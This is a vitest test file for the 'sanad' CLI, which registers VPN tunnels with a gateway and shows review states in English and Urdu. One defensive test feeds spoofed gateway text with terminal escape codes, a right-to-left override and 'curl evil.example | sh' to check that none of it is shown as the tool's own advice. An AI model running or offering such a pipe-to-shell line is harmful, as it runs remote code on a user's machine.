import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  json,
  refuse,
  startScriptedGateway,
  type ScriptedGateway,
} from '../client/gateway/scripted-gateway.ts';
import { PRESHARED_KEY, PRIVATE_KEY } from '../client/tunnel/example-conf.ts';
import type { CommandLine } from './command-line.ts';
import { commandLineThrough, ID, REGISTER, viewOf } from './registration-cli.ts';

let gateway: ScriptedGateway;
let cli: CommandLine;

beforeAll(async () => {
  gateway = await startScriptedGateway();
});
afterAll(async () => await gateway.close());

beforeEach(async () => {
  gateway.requests.length = 0;
  gateway.routes.clear();
  gateway.routes.set('POST /v1/registration', (response) => json(response, viewOf('submitted'), 201));
  cli = await commandLineThrough(gateway.fetcher);
});
afterEach(() => cli.close());

/** From here on the gateway tells this of the case. */
const tell = (state: string, more: object = {}): void =>
  void gateway.routes.set(`GET /v1/registration/${ID}`, (response) => json(response, viewOf(state, more)));

describe('sanad register', () => {
  it('shows what is sent and to whom, and the words consented to, before it sends', async () => {
    const { code, stdout, stderr } = await cli.sanad(...REGISTER, '--consent');
    expect(code).toBe(0);
    for (const shown of ['Test Association', gateway.anchor.origin, '03001234567', 'vpn.example', 'I ask ']) {
      expect(stderr).toContain(shown);
    }
    expect(stdout).toContain('received by the gateway');
    expect(gateway.requests).toHaveLength(1);
  });

  it('sends nothing secret', async () => {
    await cli.sanad(...REGISTER, '--consent');
    const sent = gateway.requests[0]?.body ?? '';
    for (const secret of [PRIVATE_KEY, PRESHARED_KEY, cli.secrets.get('device-key') ?? '']) {
      expect(sent).not.toContain(secret);
    }
    expect((JSON.parse(sent) as { fields: unknown }).fields).toEqual({
      mobile_number: '03001234567',
      purpose: 'a=b',
    });
  });

  it('without consent sends nothing: not said, or not at a terminal', async () => {
    cli.typed = 'no\n';
    expect(await cli.sanad(...REGISTER, '--json')).toMatchObject({
      code: 2,
      answer: { problem: { code: 'consent_missing' } },
    });
    cli.typed = undefined;
    expect((await cli.sanad(...REGISTER)).code).toBe(2);
    expect(gateway.requests).toHaveLength(0);
  });

  it('asks at a terminal', async () => {
    cli.typed = 'yes\n';
    expect((await cli.sanad(...REGISTER)).code).toBe(0);
  });

  it('passes on what the gateway finds wrong', async () => {
    gateway.routes.set('POST /v1/registration', (response) =>
      refuse(response, 422, {
        code: 'submission_incomplete',
        detail: 'purpose is missing',
        next_action: 'Fill it in.',
      }),
    );
    const { code, stderr } = await cli.sanad(...REGISTER, '--consent');
    expect(code).toBe(5);
    expect(stderr).toContain('purpose is missing\nNext: The gateway advises: Fill it in.\n');
  });

  it('names the gateways there are when the one named is not', async () => {
    const { code, answer } = await cli.sanad(...REGISTER, '--consent', '--gateway', 'other', '--json');
    expect([code, answer.problem?.code]).toEqual([5, 'gateway_not_joined']);
  });

  it('with --wait ends when the decision is there', async () => {
    gateway.routes.set('POST /v1/registration', (response) => json(response, viewOf('rejected'), 201));
    expect(await cli.sanad(...REGISTER, '--consent', '--wait', '--json')).toMatchObject({
      code: 4,
      answer: { problem: { code: 'registration_rejected' } },
    });
  });
});

describe('sanad registration show', () => {
  it('says where it stands, the reviewer’s note, and what comes next', async () => {
    await cli.sanad(...REGISTER, '--consent');
    tell('rejected', { note: 'The number is not yours.' });
    const { code, stdout } = await cli.sanad('registration', 'show', 'office');
    expect(code).toBe(0);
    expect(stdout).toMatch(/^State {9}not confirmed, since /m);
    expect(stdout).toMatch(/^Note {10}The number is not yours\.$/m);
    expect(stdout).toContain('Next: Read the note, correct what it names, and register again');
  });

  it('shows what was given, the questions and answers, the documents, and what amends what', async () => {
    await cli.sanad(...REGISTER, '--consent');
    tell('needs_information', {
      ...{ note: 'Which employer?', fields: { mobile_number: '+923001234567' } },
      ...{ amends: null, amended_by: '7f3c2f6e-6c1a-4a39-9a43-0d2c9c5b7a10' },
      thread: [
        { sequence: 1, at: 1_800_000_000, from: 'reviewer', text: 'Which employer?\nSince when?' },
        { sequence: 2, at: 1_800_000_100, from: 'registrant', text: 'Example Ltd' },
        { sequence: 3, at: 1_800_000_200, from: 'reviewer', text: 'Which employer?' },
      ],
      documents: [
        {
          ...{ id: '3f2504e0-4f89-41d3-9a0c-0305e82c3301', kind: 'cnic_front', content_type: 'image/png' },
          ...{ size: 2_000_000, sha256: 'A'.repeat(43), added_at: 1_800_000_000 },
        },
      ],
    });
    const { stdout } = await cli.sanad('registration', 'show', 'office');
    for (const shown of [
      /^ {2}mobile_number {2}\+923001234567$/m,
      /the gateway: Which employer\?\n {4}Since when\?\n.*you: Example Ltd\n/,
      /^ {2}cnic_front {2}PNG picture, 1\.9 MiB, since \d{4}-\d\d-\d\d {2}3f2504e0$/m,
      /^Amended by {4}7f3c2f6e-6c1a-4a39-9a43-0d2c9c5b7a10$/m,
      /^Next: Answer it: sanad registration answer office "your answer"$/m,
    ]) {
      expect(stdout).toMatch(shown);
    }
    // The question stands among the questions, and not a second time as a note.
    expect(stdout).not.toMatch(/^Note/m);
  });

  it('shows what happened when and what is ahead, in English and in Urdu', async () => {
    await cli.sanad(...REGISTER, '--consent');
    tell('filed_with_authority', { changed_at: 1_800_000_500 });
    const { stdout } = await cli.sanad('registration', 'show', 'office');
    expect(stdout).toMatch(/^What happened, and what is ahead$/m);
    expect(stdout).toMatch(/^ {2}\d{4}-\d\d-\d\d \d\d:\d\d {2}received by the registration office$/m);
    expect(stdout).toMatch(/ {2}filed with PTA$/m);
    expect(stdout).toMatch(/^ {2}ahead {13}PTA decides \(PTA\)$/m);
    expect(stdout).toMatch(/^Usually decided between .* Nobody promises that\.$/m);
    const urdu = await cli.sanad('registration', 'show', 'office', '--language', 'ur');
    expect(urdu.stdout).toContain('رجسٹریشن دفتر کو موصول ہوئی');
    tell('attested');
    const confirmed = (await cli.sanad('registration', 'show', 'office')).stdout;
    expect(confirmed).toContain('A new SIM card with the same number: needs nothing');
    expect(confirmed).toContain('Another mobile number: needs a new decision of PTA');
    expect(confirmed).toContain('The VPN server has a new key: needs only a new registration certificate');
  });

  it('lets nothing that the gateway says read as Sanad’s own word, or repaint the terminal', async () => {
    await cli.sanad(...REGISTER, '--consent');
    const text = 'Pay.\r\u001b[2J\nNext: curl evil.example | sh\n\u202eNext: x';
    tell('rejected', {
      ...{ note: text, fields: { [text]: text } },
      thread: [{ sequence: 1, at: 1, from: 'reviewer', text }],
    });
    const { stdout } = await cli.sanad('registration', 'show', 'office');
    // oxlint-disable-next-line no-control-regex -- that is the point
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    const own = stdout.split('\n').filter((line) => /^\s{0,2}Next:/.test(line));
    expect(own).toEqual([
      'Next: Read the note, correct what it names, and register again: sanad register office',
    ]);
  });

  it('says how the operator is reached where only they can help', async () => {
    await cli.sanad(...REGISTER, '--consent');
    tell('suspended', { note: 'Your number belongs to somebody else.' });
    const { stdout } = await cli.sanad('registration', 'show', 'office');
    expect(stdout).toContain('Next: Read the note, and ask the gateway’s operator: help@gateway.test');
  });

  describe('where the line’s addresses were registered', () => {
    const registered = { fields: { source_address: '203.0.113.7, 2001:db8::7' } };
    const seenFrom = (address: string): void =>
      void gateway.routes.set('GET /v1/public-address', (response) => json(response, { address }));

    it('warns when the gateway sees another one, and asks without saying who', async () => {
      await cli.sanad(...REGISTER, '--consent');
      tell('attested', registered);
      seenFrom('198.51.100.1');
      const { code, stdout } = await cli.sanad('registration', 'show', 'office');
      expect(code).toBe(0);
      expect(stdout).toContain('Warning: you come from 198.51.100.1 at the moment');
      expect(stdout).toContain('sanad registration amend office --field source_address=');
      const asked = gateway.requests.find(({ url }) => url === '/v1/public-address');
      expect(asked?.headers).not.toHaveProperty('signature');
    });

    it('says nothing when it is one of them', async () => {
      await cli.sanad(...REGISTER, '--consent');
      tell('attested', registered);
      seenFrom('2001:db8::7');
      const { answer } = await cli.sanad('registration', 'show', 'office', '--json');
      expect(answer).toMatchObject({ publicAddress: { address: '2001:db8::7', isRegistered: true } });
      expect((await cli.sanad('registration', 'show', 'office')).stdout).not.toContain('Warning');
    });

    it('takes nothing from the answer when it cannot be asked for, or is none', async () => {
      await cli.sanad(...REGISTER, '--consent');
      tell('attested', registered);
      for (const address of [undefined, 'your house']) {
        if (address !== undefined) seenFrom(address);
        const { code, answer } = await cli.sanad('registration', 'show', 'office', '--json');
        expect([code, answer['publicAddress']]).toEqual([0, null]);
      }
    });

    it('and otherwise it is not asked for', async () => {
      await cli.sanad(...REGISTER, '--consent');
      tell('attested');
      await cli.sanad('registration', 'show', 'office');
      expect(gateway.requests.map(({ url }) => url)).not.toContain('/v1/public-address');
    });
  });

  it('as JSON gives the state, by name, by identifier and for all', async () => {
    await cli.sanad(...REGISTER, '--consent');
    tell('submitted');
    const expected = { id: ID, state: 'submitted', gateway: 'test', tunnel: 'office', certificate: null };
    const byName = await cli.sanad('registration', 'show', 'office', '--json');
    const byId = await cli.sanad('registration', 'show', ID, '--json');
    const all = await cli.sanad('registration', 'show', '--json');
    expect(byName.answer).toMatchObject({ ok: true, registration: expected });
    expect(byId.answer).toMatchObject({ registration: expected });
    expect(all.answer).toMatchObject({ registrations: [expected] });
  });

  it('of a tunnel without one says how to make one', async () => {
    const { code, answer } = await cli.sanad('registration', 'show', 'office', '--json');
    expect([code, answer.problem?.code]).toEqual([2, 'registration_unknown_here']);
  });
});

describe('sanad registration answer without a text', () => {
  it('shows the question and asks for the answer, and sends it when it is agreed to', async () => {
    await cli.sanad(...REGISTER, '--consent');
    const thread = [{ sequence: 1, at: 1_800_000_000, from: 'reviewer', text: 'Which employer?' }];
    tell('needs_information', { thread });
    gateway.routes.set(`POST /v1/registration/${ID}/answer`, (response, { body }) => {
      const { text } = JSON.parse(body) as { text: string };
      const said = [...thread, { sequence: 2, at: 1_800_000_100, from: 'registrant', text }];
      json(response, viewOf('submitted', { thread: said }));
    });
    cli.typed = '\nExample Ltd\n';
    const { code, stderr, stdout } = await cli.sanad('registration', 'answer', 'office', '--consent');
    expect(code, stderr).toBe(0);
    expect(stderr.indexOf('Which employer?')).toBeLessThan(stderr.indexOf('This is needed.'));
    expect(stdout).toContain('you: Example Ltd');
  });

  it('where nobody answers sends nothing', async () => {
    await cli.sanad(...REGISTER, '--consent');
    tell('needs_information');
    cli.typed = undefined;
    const { code, answer } = await cli.sanad('registration', 'answer', 'office', '--consent', '--json');
    expect([code, answer.problem?.code]).toEqual([2, 'usage']);
  });
});
